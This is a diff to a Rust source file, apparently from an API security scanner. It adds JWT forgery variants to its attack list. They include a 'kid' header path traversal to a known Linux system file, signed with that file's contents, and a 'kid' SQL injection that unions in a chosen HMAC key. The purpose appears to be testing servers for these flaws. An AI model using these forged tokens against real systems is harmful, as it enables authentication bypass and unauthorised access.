@@ -25,9 +25,21 @@ pub const ATTACKS: &[&str] = &[
     "embedded-jwk",
     "jku",
     "kid-traversal",
+    "kid-traversal-known-file",
+    "kid-sql-injection",
     "psychic-signature",
     "resign",
 ];
+
+/// Twelve steps up: more than enough from any key folder, since `..` at the root stays there.
+const UP: &str = "../../../../../../../../../../../../";
+
+/// A file with known, non-empty contents on common Linux systems, for servers (and
+/// libraries such as current pyjwt) that refuse an empty HMAC key.
+const KNOWN_FILE: (&str, &[u8]) = ("proc/sys/kernel/randomize_va_space", b"2\n");
+
+/// The HMAC key the SQL-injected kid makes a vulnerable key lookup return.
+const SQL_KEY: &str = "apiward";
 
 /// The kid a forged jku token names, matching the JWKS returned with it.
 pub const FORGED_KID: &str = "apiward-forged";
@@ -268,8 +280,19 @@ fn make(
             v
         }
         "kid-traversal" => variant(
-            p.hmac_token("HS256", p.header_with(&[("alg", json!("HS256")), ("kid", json!("../../../../../../dev/null"))], &[]), b"")?,
-            "kid points at /dev/null and the token is HS256-signed with an empty secret: accepted by servers that read the key from a file named by kid.".into(),
+            p.hmac_token("HS256", p.header_with(&[("alg", json!("HS256")), ("kid", json!(format!("{UP}dev/null")))], &[]), b"")?,
+            "kid points at /dev/null (twelve levels up, enough from any key folder) and the token is HS256-signed with an empty secret: accepted by servers that read the key from a file named by kid.".into(),
+        ),
+        "kid-traversal-known-file" => {
+            let (file, contents) = KNOWN_FILE;
+            variant(
+                p.hmac_token("HS256", p.header_with(&[("alg", json!("HS256")), ("kid", json!(format!("{UP}{file}")))], &[]), contents)?,
+                format!("kid points at /{file}, whose contents are \"2\\n\" on most Linux systems, and the token is HS256-signed with them: accepted by servers that read the key from a file named by kid even when they refuse an empty key."),
+            )
+        }
+        "kid-sql-injection" => variant(
+            p.hmac_token("HS256", p.header_with(&[("alg", json!("HS256")), ("kid", json!(format!("x' UNION SELECT '{SQL_KEY}'-- ")))], &[]), SQL_KEY.as_bytes())?,
+            format!("kid ends a SQL string and unions in the key '{SQL_KEY}', which signs the token: accepted by servers that look the key up with a query built from kid."),
         ),
         "psychic-signature" => variant(
             format!("{}.{}.{}", p.header_with(&[("alg", json!("ES256"))], &[]), p.payload_b64, b64::encode([0u8; 64])),
